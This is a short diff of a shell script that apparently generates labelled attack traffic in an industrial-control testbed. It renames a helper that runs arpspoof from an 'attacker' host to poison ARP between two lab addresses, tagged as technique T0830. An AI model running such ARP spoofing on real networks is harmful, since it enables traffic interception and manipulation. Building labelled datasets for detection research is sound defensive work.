@@ -8,7 +8,7 @@ scenario_run() {
   sleep 6
   local t0 t1
   t0=$(now)
-  fg attacker arpspoof 20 timeout -s INT 10 arpspoof -i eth0 -t 10.10.2.21 -r 10.10.1.5
+  run_in attacker arpspoof 20 timeout -s INT 10 arpspoof -i eth0 -t 10.10.2.21 -r 10.10.1.5
   t1=$(now)
   label arp_spoofing T0830 attacker "pump1 pumpsrv" "$t0" "$t1" \
     "arpspoof -t 10.10.2.21 -r 10.10.1.5: gratuitous ARP replies binding both addresses to the attacker's MAC"
